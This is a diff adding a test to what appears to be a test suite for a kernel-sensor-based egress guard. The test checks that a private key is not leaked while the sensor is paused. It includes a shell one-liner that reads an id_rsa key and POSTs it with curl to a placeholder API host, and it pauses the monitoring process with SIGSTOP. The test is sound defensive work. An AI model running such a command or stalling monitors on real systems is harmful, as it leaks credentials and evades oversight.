@@ -3,7 +3,8 @@
 // host namespace) under the shipped rules. Each malicious form must be contained by the rule
 // that names it before its payload finishes; each honest look-alike must raise nothing.
 import assert from 'node:assert/strict';
-import { readFileSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { after, before, test } from 'node:test';
 import { assertClean, assertContained, openHarness, summary, type Harness } from './harness.ts';
 
@@ -178,4 +179,46 @@ test('benign: project finds and greps, find -exec sh -c, decoded archives, hered
   });
   assertClean(c);
   for (const s of ['heredoc ok', 'key ok', 'netrc ok', 'wrapped', 'fixture ok']) assert.ok(c.r.stdout.includes(s), `${s}\n${c.r.stdout}`);
+});
+
+// ---------------------------------------------------------------- the sensor's catch-up
+
+/** The resident guard's bpftrace (its child: every step of its launch is an exec). */
+function guardBpftrace(): number {
+  const dir = `${h.dir}/state/guard`;
+  const pidFile = readdirSync(dir).find((f) => f.endsWith('.pid'));
+  assert.ok(pidFile, `no guard pid file in ${dir}`);
+  const guard = (JSON.parse(readFileSync(`${dir}/${pidFile}`, 'utf8')) as { pid: number }).pid;
+  for (const p of readdirSync('/proc')) {
+    if (!/^\d+$/.test(p)) continue;
+    try {
+      const stat = readFileSync(`/proc/${p}/stat`, 'utf8');
+      const m = /^\d+ \((.*)\) \S (\d+)/.exec(stat);
+      if (m && m[1] === 'bpftrace' && Number(m[2]) === guard) return Number(p);
+    } catch { /* gone */ }
+  }
+  throw new Error(`guard ${guard} has no bpftrace child`);
+}
+
+test('a key body posted while the kernel sensor lags is held until the read is reported, then cut: nothing reaches the API', async () => {
+  await h.run('catch-up-warm', ['true']); // the guard and its sensor are up
+  const ws = `${h.dir}/ws-catch-up`;
+  mkdirSync(ws, { recursive: true });
+  execFileSync('openssl', ['genrsa', '-out', `${ws}/id_rsa`, '2048'], { stdio: 'ignore' });
+  // The sensor stalls for 1.2 s (SIGSTOP: its perf rings fill, nothing is read), so the read of
+  // the key is reported only after curl has sent its POST: without the catch-up the body left.
+  const bpf = guardBpftrace();
+  process.kill(bpf, 'SIGSTOP');
+  let resumed = false;
+  const resume = () => { if (!resumed) { resumed = true; try { process.kill(bpf, 'SIGCONT'); } catch { /* gone */ } } };
+  const timer = setTimeout(resume, 1200);
+  try {
+    const c = await h.run('catch-up', ['sh', '-c', "sed '1d;$d' id_rsa | tr -d '\\n' | curl -s -m 8 -X POST --data-binary @- http://api.example.test/catch-up-upload; echo posted"]);
+    const posts = (await h.t.log('web')).filter((e) => e.event === 'request' && String(e.url).includes('catch-up-upload'));
+    assert.deepEqual(posts, [], `the key body reached the API\n${summary(c.rep)}`);
+    const tracked = c.rep.events.find((e) => e.kind === 'secret.tracked' && /id_rsa$/.test(String(e.path)));
+    assert.ok(tracked && Number(tracked.cut) >= 1, `the read was reported and cut the held connection\n${summary(c.rep)}`);
+    const flow = c.rep.events.find((e) => e.kind === 'net.flow' && e.rule === 'egress-token-tracked');
+    assert.ok(flow && flow.decision === 'deny', summary(c.rep));
+  } finally { clearTimeout(timer); resume(); }
 });
